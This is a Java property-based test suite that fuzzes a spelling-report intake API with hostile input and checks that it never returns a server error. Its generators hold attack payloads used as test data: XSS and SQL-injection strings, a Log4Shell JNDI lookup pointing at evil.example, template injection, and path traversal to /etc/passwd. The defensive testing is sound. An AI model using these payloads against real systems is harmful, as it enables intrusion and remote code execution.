package io.github.spellingreports.intake;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import io.github.spellingreports.events.Topics;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.IntRange;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.boot.web.server.context.WebServerApplicationContext;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.kafka.test.EmbeddedKafkaKraftBroker;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Properties of the intake under hostile input, over real HTTP against the whole application and
 * Apache Kafka's in-process broker: whatever arrives, the answer is 202 or a 4xx problem detail,
 * never a 5xx, and a page URL with a user name or password is never accepted.
 * <p>
 * jqwik does not run Spring's test extension, so this class starts the intake itself (once).
 * Command-line arguments, because they outrank the JVM-wide system property that other
 * {@code @EmbeddedKafka} tests leave behind.
 */
class HostileInputTests {

    /**
     * The report's fields, the honeypot ({@code website}) left out: a report that fills it is answered
     * 202 before its text is read, so a third of the tries never reached the code hostile text could
     * break (the honeypot has tests of its own).
     */
    private static final List<String> FIELDS = List.of("reportId", "pageUrl", "pageTitle", "lang", "selection",
            "contextBefore", "contextAfter", "comment");

    private static final JsonMapper JSON = JsonMapper.builder().build();

    private static final HttpClient HTTP = HttpClient.newHttpClient();

    private static EmbeddedKafkaKraftBroker broker;

    private static ConfigurableApplicationContext intake;

    private static int port;

    @BeforeContainer
    static void startIntake() {
        broker = new EmbeddedKafkaKraftBroker(1, 1, Topics.REPORTS);
        broker.afterPropertiesSet();
        // the actuator on a free loopback port too: intake.yml's fixed 9080 on every interface clashed
        // with whatever else held it
        intake = IntakeApplication.builder().run("--server.port=0", "--server.address=127.0.0.1",
                "--management.server.port=0", "--management.server.address=127.0.0.1",
                "--spring.kafka.bootstrap-servers=" + broker.getBrokersAsString(),
                "--spelling.intake.allowed-origins=https://news.example",
                "--spelling.intake.rate-limit.enabled=false");
        port = ((WebServerApplicationContext) intake).getWebServer().getPort();
    }

    @AfterContainer
    static void stopIntake() {
        if (intake != null) {
            intake.close();
        }
        if (broker != null) {
            broker.destroy();
        }
    }

    @Property(tries = 300)
    void anyJsonIsAcceptedOrAClientError(@ForAll("jsonBodies") String body) throws Exception {
        expectAcceptedOrClientError(post(body.getBytes(StandardCharsets.UTF_8), "application/json"));
    }

    @Property(tries = 300)
    void reportsFullOfHostileTextAreAcceptedOrAClientError(@ForAll("hostileReports") Map<String, Object> report)
            throws Exception {
        expectAcceptedOrClientError(post(JSON.writeValueAsBytes(report), "application/json"));
    }

    @Property(tries = 300)
    void pageUrlsOfAnyShapeAreAcceptedOrAClientErrorAndNeverWithCredentials(@ForAll("pageUrls") String pageUrl)
            throws Exception {
        Map<String, Object> report = validReport();
        report.put("pageUrl", pageUrl);

        HttpResponse<String> answer = post(JSON.writeValueAsBytes(report), "application/json");

        expectAcceptedOrClientError(answer);
        if (pageUrl.contains("@")) {
            assertThat(answer.statusCode()).as("credentials in %s", pageUrl).isNotEqualTo(202);
        }
    }

    @Property(tries = 200)
    void bytesThatAreNotUtf8AreAcceptedOrAClientError(@ForAll("invalidUtf8") byte[] body) throws Exception {
        expectAcceptedOrClientError(post(body, "application/json"));
    }

    @Property(tries = 50)
    void deepNestingIsAClientError(@ForAll @IntRange(min = 600, max = 10_000) int depth) throws Exception {
        String body = "{\"selection\": " + "[".repeat(depth) + "]".repeat(depth) + "}";
        HttpResponse<String> answer = post(body.getBytes(StandardCharsets.UTF_8), "application/json");

        assertThat(answer.statusCode()).isIn(400, 413);
        expectAcceptedOrClientError(answer);
    }

    @Property(tries = 100)
    void anyContentTypeIsAcceptedOrAClientError(@ForAll("contentTypes") String type) throws Exception {
        expectAcceptedOrClientError(post(JSON.writeValueAsBytes(validReport()), type));
    }

    /** Every address the intake has, and some it has not, with any method and a hostile query: never a 5xx. */
    @Property(tries = 300)
    void anyMethodAddressAndQueryIsAnsweredWithoutAServerError(@ForAll("methods") String method,
            @ForAll("paths") String path, @ForAll("queries") String query) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path + query))
                .method(method, method.equals("POST") || method.equals("PUT")
                        ? HttpRequest.BodyPublishers.ofString(JSON.writeValueAsString(validReport()))
                        : HttpRequest.BodyPublishers.noBody());
        if (method.equals("POST") || method.equals("PUT")) {
            request.header("Content-Type", "application/json");
        }
        HttpResponse<String> answer = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());

        assertThat(answer.statusCode()).as("%s %s%s: %s", method, path, query, answer.body()).isLessThan(500);
        if (answer.statusCode() >= 400 && !method.equals("HEAD")) {
            // Tomcat's refusals (see report-web) name the charset, Spring's problem details do not
            assertThat(answer.headers().firstValue("Content-Type")).as("%s %s%s", method, path, query)
                    .hasValueSatisfying((type) -> assertThat(type).startsWith("application/problem+json"));
            assertThat(answer.body()).contains("\"status\":" + answer.statusCode()).doesNotContain("Exception")
                    .doesNotContain("at org.");
        }
    }

    @Example
    void aValidReportIsAccepted() throws Exception {
        assertThat(post(JSON.writeValueAsBytes(validReport()), "application/json").statusCode()).isEqualTo(202);
    }

    @Provide
    Arbitrary<String> jsonBodies() {
        Arbitrary<String> wellFormed = jsonValues(4).map(HostileInputTests::write);
        Arbitrary<String> objects = Arbitraries.maps(Arbitraries.oneOf(Arbitraries.of(FIELDS), hostileText()), jsonValues(3))
                .ofMaxSize(12).map(HostileInputTests::write);
        Arbitrary<String> broken = Combinators.combine(objects, Arbitraries.integers().between(0, 1000),
                Arbitraries.of("", "{", "}", "[", "\"", ",", ":", "\\", "\u0000", "NaN", "'", "/*"))
                .as((json, cut, noise) -> json.substring(0, Math.min(cut, json.length())) + noise);
        return Arbitraries.oneOf(wellFormed, objects, broken);
    }

    @Provide
    Arbitrary<Map<String, Object>> hostileReports() {
        return Arbitraries.maps(Arbitraries.of(FIELDS), Arbitraries.oneOf(hostileText(), hostileText(),
                jsonValues(2))).ofMaxSize(FIELDS.size()).map(fields -> {
                    Map<String, Object> report = validReport();
                    report.putAll(fields);
                    return report;
                });
    }

    @Provide
    Arbitrary<String> pageUrls() {
        Arbitrary<String> scheme = Arbitraries.of("https", "http", "HTTPS", "javascript", "data", "file", "ftp", "");
        Arbitrary<String> credentials = Arbitraries.of("", "", "user@", "user:pass@", ":@", "news.example@");
        Arbitrary<String> host = Arbitraries.of("news.example", "NEWS.EXAMPLE", "news.example.", "пример.рф",
                "xn--e1afmkfd.xn--p1ai", "127.0.0.1", "[::1]", "evil.example", "news.example.evil.example", "");
        Arbitrary<String> port = Arbitraries.of("", "", ":443", ":80", ":0", ":99999", ":x");
        Arbitrary<String> path = Arbitraries.of("/", "/story?id=7", "/a b", "/%zz", "/%00", "\\\\evil", "/<script>",
                "/ü?q=ü#frag", "//evil.example/", "/\uD800", "?q=\uDFFF", "");
        Arbitrary<String> url = Combinators.combine(scheme, credentials, host, port, path)
                .as((s, c, h, p, rest) -> s + "://" + c + h + p + rest);
        Arbitrary<String> odd = Arbitraries.of("javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
                "file:///etc/passwd", "https:news.example", "//news.example/story", "news.example/story",
                "https://news.example/" + "a".repeat(3000));
        return Arbitraries.oneOf(url, url, url, odd);
    }

    @Provide
    Arbitrary<String> methods() {
        return Arbitraries.of("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "TRACE", "PATCH", "PROPFIND");
    }

    @Provide
    Arbitrary<String> paths() {
        return Arbitraries.of("/api/v1/reports", "/api/v1/reports/", "/api/v1/report", "/api", "/", "/widget.js",
                "/widget.js/", "/demo", "/demo/", "/demo/ru", "/demo/demo.css", "/demo/%2e%2e/%2e%2e/etc/passwd",
                "/error", "/actuator", "/actuator/health", "/actuator/prometheus", "/%00", "/a;b", "//widget.js",
                "/%D0%BF", "/" + "x".repeat(3000));
    }

    @Provide
    Arbitrary<String> queries() {
        Arbitrary<String> value = Arbitraries.of("", "%FF", "%ED%A0%80", "%00", "%D0%BF", "-1", "99999999999999999999",
                "x".repeat(3000), "%3Cscript%3E", "%25", "true");
        Arbitrary<String> name = Arbitraries.of("v", "q", "lang", "includedNames", "_csrf", "from", "utm_source");
        Arbitrary<String> pair = Combinators.combine(name, value).as((n, v) -> n + "=" + v);
        return pair.list().ofMaxSize(3).map((pairs) -> pairs.isEmpty() ? "" : "?" + String.join("&", pairs));
    }

    @Provide
    Arbitrary<byte[]> invalidUtf8() {
        Arbitrary<byte[]> noise = Arbitraries.bytes().array(byte[].class).ofMaxSize(200);
        byte[][] bad = { { (byte) 0xC3, 0x28 }, { (byte) 0xFF }, { (byte) 0xC0, (byte) 0xAF },
                { (byte) 0xED, (byte) 0xA0, (byte) 0x80 }, { (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80 },
                { (byte) 0xE2, (byte) 0x82 } };
        Arbitrary<byte[]> inAString = Combinators.combine(Arbitraries.of(bad), Arbitraries.of("selection", "comment",
                "pageUrl", "pageTitle")).as((bytes, field) -> {
                    String json = write(validReport());
                    int at = json.indexOf("\"" + field + "\":\"") + field.length() + 4;
                    byte[] head = json.substring(0, at).getBytes(StandardCharsets.UTF_8);
                    byte[] tail = json.substring(at).getBytes(StandardCharsets.UTF_8);
                    byte[] body = new byte[head.length + bytes.length + tail.length];
                    System.arraycopy(head, 0, body, 0, head.length);
                    System.arraycopy(bytes, 0, body, head.length, bytes.length);
                    System.arraycopy(tail, 0, body, head.length + bytes.length, tail.length);
                    return body;
                });
        return Arbitraries.oneOf(noise, inAString, inAString);
    }

    @Provide
    Arbitrary<String> contentTypes() {
        return Arbitraries.of("application/json", "application/json; charset=ISO-8859-1", "application/json; charset=x",
                "text/plain", "application/xml", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded",
                "*/*", "application/problem+json", "garbage", "");
    }

    private static Arbitrary<String> hostileText() {
        Arbitrary<String> pieces = Arbitraries.of("\u0000", "\u0007", "\u001B[31m", "\u007F", "\u0085", "\u200B", "\u200D",
                "\uFEFF", "\u202E", "\u200F", "\u2066", "e\u0301\u0301\u0301\u0301", "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
                "\uD83D\uDE00", "\uD800", "\uDFFF", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
                "'; DROP TABLE report; --", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%s%n", "\\u0000", "\r\n\r\n",
                "Kazakstan", " ", "ǅ", "İ", "ﬀ", "\t");
        Arbitrary<String> joined = pieces.list().ofMaxSize(40).map(list -> String.join("", list));
        Arbitrary<String> huge = Arbitraries.of("x", "\u200B", "é", "\uD83D\uDE00").flatMap(piece ->
                Arbitraries.integers().between(250, 20_000).map(piece::repeat));
        return Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(6, joined), net.jqwik.api.Tuple.of(1, huge),
                net.jqwik.api.Tuple.of(2, Arbitraries.strings().ofMaxLength(50)));
    }

    private static Arbitrary<Object> jsonValues(int depth) {
        Arbitrary<Object> leaves = Arbitraries.oneOf(hostileText().map(text -> (Object) text),
                Arbitraries.integers().map(number -> (Object) number), Arbitraries.doubles().map(number -> (Object) number),
                Arbitraries.of(true, false).map(value -> (Object) value), Arbitraries.just(null),
                Arbitraries.longs().map(number -> (Object) (number + "e999")));
        if (depth == 0) {
            return leaves;
        }
        Arbitrary<Object> lists = jsonValues(depth - 1).list().ofMaxSize(4).map(list -> (Object) list);
        Arbitrary<Object> maps = Arbitraries.maps(Arbitraries.oneOf(Arbitraries.of(FIELDS), Arbitraries.strings().ofMaxLength(5)),
                jsonValues(depth - 1)).ofMaxSize(4).map(map -> (Object) map);
        return Arbitraries.oneOf(leaves, leaves, lists, maps);
    }

    private static Map<String, Object> validReport() {
        Map<String, Object> report = new LinkedHashMap<>();
        report.put("pageUrl", "https://news.example/story?id=7");
        report.put("pageTitle", "News of the day");
        report.put("lang", "en");
        report.put("selection", "Kazakstan");
        report.put("contextBefore", "The capital of ");
        report.put("contextAfter", " is Astana.");
        report.put("comment", "Kazakhstan");
        return report;
    }

    private static String write(Object value) {
        return JSON.writeValueAsString(value);
    }

    private static HttpResponse<String> post(byte[] body, String contentType) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/api/v1/reports"))
                .POST(HttpRequest.BodyPublishers.ofByteArray(body));
        if (!contentType.isEmpty()) {
            request.header("Content-Type", contentType);
        }
        return HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static void expectAcceptedOrClientError(HttpResponse<String> answer) {
        if (answer.statusCode() == 202) {
            assertThat(answer.body()).matches("\\{\"reportId\":\"[0-9a-f-]{36}\"}");
            return;
        }
        assertThat(answer.statusCode()).as("status of %s", answer.body()).isBetween(400, 499);
        assertThat(answer.headers().firstValue("Content-Type")).as("problem for %s", answer.statusCode())
                .hasValue("application/problem+json");
        assertThat(answer.body()).contains("\"status\":" + answer.statusCode()).doesNotContain("Exception")
                .doesNotContain("tools.jackson").doesNotContain("at org.");
    }


}
